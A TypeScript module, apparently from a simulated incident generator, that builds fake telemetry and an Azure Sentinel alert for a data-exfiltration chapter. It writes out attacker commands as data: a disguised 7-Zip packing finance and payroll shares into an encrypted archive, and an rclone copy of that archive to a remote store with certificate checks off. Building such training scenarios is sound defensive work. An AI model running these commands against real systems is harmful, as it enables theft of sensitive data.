import { flowRow } from '../events/flow';
import { on, SPAN } from '../moment';
import { CAST, HOSTILE } from './cast';
import type { Stage, Told } from './stage';

/** Hours in which data left, and the bytes of each. */
export const LEAK = [
  { hour: 2, bytes: 1_912_406_016 },
  { hour: 3, bytes: 2_604_113_920 },
] as const;

/** Bytes that left for the drop address. */
export const LEAKED_BYTES = LEAK.reduce((sum, { bytes }) => sum + bytes, 0);

const archive = (stage: Stage, prompt: Told): Told => {
  const folder = 'C:\\ProgramData\\wrs\\';
  stage.start(
    prompt,
    on(17, '01:48:31.2910000'),
    `${folder}svhost.exe`,
    `svhost.exe a -t7z -v200m -mhe=on -pL4rk!m00r D:\\shares\\public\\~tmp\\q3.7z D:\\shares\\finance\\*.xlsx D:\\shares\\finance\\payroll`,
  );
  return stage.start(
    prompt,
    on(17, '02:04:55.8800000'),
    `${folder}rclone.exe`,
    `rclone.exe copy D:\\shares\\public\\~tmp\\ cq:in --transfers 8 --no-check-certificate --config ${folder}r.conf`,
  );
};

const leak = (stage: Stage): void => {
  for (const { hour, bytes } of LEAK)
    for (let part = 0; part < 4; part += 1) {
      const start = on(17, `0${hour}:00:00`) + (5 + part * 9) * SPAN.minute;
      stage.flows.push(
        flowRow({
          host: CAST.fileServer,
          start,
          end: start + 8 * SPAN.minute,
          ip: HOSTILE.dropIp,
          direction: 'O',
          port: 443,
          protocol: 'https',
          kind: 'ExternalPublic',
          flows: 8,
          bytesOut: bytes / 4,
          bytesIn: 1_048_576,
          region: HOSTILE.signInCountry.toLowerCase(),
        }),
      );
    }
};

/** The intruder's control traffic from FIN-WS07: one row an hour from the foothold to the isolation. */
const control = (stage: Stage): number => {
  const [from, to] = [on(15, '09:26:22'), on(17, '09:05:00')];
  let rows = 0;
  for (let start = from; start < to; start += SPAN.hour) {
    rows += 1;
    stage.flows.push(
      flowRow({
        host: CAST.patientZero,
        start,
        end: start + 33 * SPAN.minute,
        ip: HOSTILE.controlIp,
        direction: 'O',
        port: 8443,
        protocol: 'unknown',
        kind: 'ExternalPublic',
        flows: 11,
        bytesOut: 48_200,
        bytesIn: 61_440,
        region: HOSTILE.signInCountry.toLowerCase(),
      }),
    );
  }
  return rows;
};

/** Chapter 7, 17 September 01:48: finance files are packed on FS01 and copied to a rented store; control traffic of FIN-WS07. */
export function exfiltration(stage: Stage, prompt: Told): void {
  const copy = archive(stage, prompt);
  leak(stage);
  control(stage);
  stage.alert({
    key: 'alert exfiltration',
    name: 'Unusual amount of data sent to one address',
    severity: 'High',
    description:
      'A file server sent more than 4 GB in two hours to an address that no machine had contacted before.',
    product: 'Azure Sentinel',
    type: 'larkmoor_outbound_volume',
    start: copy.started,
    end: on(17, '03:40:00'),
    tactics: 'Exfiltration',
    techniques: ['T1567.002', 'T1560.001'],
    about: CAST.fileServer.name,
    properties: { 'Destination IPs': HOSTILE.dropIp, 'Bytes Sent': String(LEAKED_BYTES) },
    entities: (graph) => {
      graph.process(copy, copy.command);
      graph.ip(HOSTILE.dropIp, { country: HOSTILE.signInCountry, city: HOSTILE.signInCity });
    },
  });
}
